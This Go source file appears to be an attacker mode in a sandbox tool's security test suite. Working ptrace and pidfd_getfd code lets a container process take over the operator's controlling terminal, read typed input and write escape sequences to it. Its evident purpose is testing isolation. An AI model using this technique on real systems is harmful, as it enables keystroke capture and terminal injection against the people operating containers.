package main

import (
	"fmt"
	"runtime"
	"time"

	"golang.org/x/sys/unix"
)

// -mode ctty (amd64): the container's init, with containerd's default
// capabilities, goes after the operator's terminal through a command nsj
// runs with the container's credentials (--fs container) and its stdio
// redirected, so that no relay gives it a terminal of its own (issue 19,
// case 3). For each process named -comm, it attaches (same uid, no more
// capabilities than the container: no CAP_SYS_PTRACE needed), has the
// process open /dev/tty, its controlling terminal, takes that descriptor
// (pidfd_getfd) and keeps it, and takes fd 0 as well if it is a
// terminal: "CTTY pid=N open=FD|ERRNO", "GRAB pid=N fd=F target=T". Once
// -stop exists (nsj has exited and the operator has typed into the
// terminal), it reads each kept descriptor and writes an OSC title to it:
// READ and WRITE lines as in -mode grabtty, then DONE.
func (a *attacker) stealControllingTerminal(name, stop string) {
	runtime.LockOSThread() // every ptrace request from the tracing thread
	tries := map[int]int{}
	var held []int
	for !exists(stop) {
		for _, pid := range a.candidates() {
			if tries[pid] >= 20 || readComm(pid) != name {
				continue
			}
			tries[pid]++
			fd, err := a.openTTYIn(pid)
			if err == errNotInSyscall {
				continue
			}
			tries[pid] = 20
			if err != nil {
				a.logf("CTTY pid=%d err=%v", pid, err)
			}
			if fd >= 0 {
				held = append(held, fd)
			}
			if fd := a.grabIfTerminal(pid, 0); fd >= 0 {
				held = append(held, fd)
			}
		}
		reapNow() // not concurrently: wait4 would take the tracee's stops
		time.Sleep(5 * time.Millisecond)
	}
	for _, fd := range held {
		a.logf("READ fd=%d %s", fd, readSome(fd))
		if _, err := unix.Write(fd, []byte("\x1b]0;GRABBED-TITLE\x07")); err != nil {
			a.logf("WRITE fd=%d err=%v", fd, err)
		} else {
			a.logf("WRITE fd=%d ok", fd)
		}
	}
	a.logf("DONE")
	select {}
}

// openTTYIn has pid, blocked in a system call, open /dev/tty; it takes the
// descriptor through /proc/PID/fd and has pid close its own. It returns
// the attacker's descriptor, or -1.
func (a *attacker) openTTYIn(pid int) (int, error) {
	if err := unix.PtraceAttach(pid); err != nil {
		return -1, fmt.Errorf("attach: %w", err)
	}
	defer unix.PtraceDetach(pid)
	if err := waitStop(pid); err != nil {
		return -1, err
	}
	var saved unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &saved); err != nil {
		return -1, fmt.Errorf("getregs: %w", err)
	}
	insn := make([]byte, 2)
	if _, err := unix.PtracePeekText(pid, uintptr(saved.Rip-2), insn); err != nil || insn[0] != 0x0f || insn[1] != 0x05 {
		return -1, errNotInSyscall
	}
	defer unix.PtraceSetRegs(pid, &saved)
	scratch := (saved.Rsp - 4096) &^ 15 // below the stack pointer and its red zone
	if _, err := unix.PtracePokeData(pid, uintptr(scratch), []byte("/dev/tty\x00")); err != nil {
		return -1, fmt.Errorf("poke: %w", err)
	}
	atFdcwd := uint64(0xffffffffffffff9c) // AT_FDCWD, -100
	ret := syscallIn(pid, saved, unix.SYS_OPENAT, atFdcwd, scratch, unix.O_RDWR|unix.O_NOCTTY)
	if ret <= -1000 {
		return -1, fmt.Errorf("running openat in pid %d: tracing failed (%d)", pid, ret)
	}
	if ret < 0 {
		a.logf("CTTY pid=%d open=%s", pid, errName(unix.Errno(-ret)))
		return -1, nil
	}
	a.logf("CTTY pid=%d open=%d", pid, ret)
	fd, err := takeFd(pid, int(ret))
	syscallIn(pid, saved, unix.SYS_CLOSE, uint64(ret))
	if err != nil {
		return -1, err
	}
	a.logf("GRAB pid=%d fd=%d target=/dev/tty", pid, ret)
	return fd, nil
}

// takeFd duplicates pid's descriptor n into this process (pidfd_getfd,
// Linux 5.6; the same access check as ptrace): reopening /proc/PID/fd/N
// of /dev/tty would open the attacker's own controlling terminal.
func takeFd(pid, n int) (int, error) {
	pidfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return -1, fmt.Errorf("pidfd_open: %w", err)
	}
	defer unix.Close(pidfd)
	fd, err := unix.PidfdGetfd(pidfd, n, 0)
	if err != nil {
		return -1, fmt.Errorf("pidfd_getfd: %w", err)
	}
	if err := unix.SetNonblock(fd, true); err != nil {
		unix.Close(fd)
		return -1, err
	}
	return fd, nil
}

// grabIfTerminal opens /proc/PID/fd/N and keeps it if it is a terminal.
func (a *attacker) grabIfTerminal(pid, n int) int {
	path := fmt.Sprintf("/proc/%d/fd/%d", pid, n)
	fd, err := unix.Open(path, unix.O_RDWR|unix.O_NOCTTY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		return -1
	}
	if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
		unix.Close(fd)
		return -1
	}
	a.logf("GRAB pid=%d fd=%d target=%q", pid, n, readlink(path))
	return fd
}
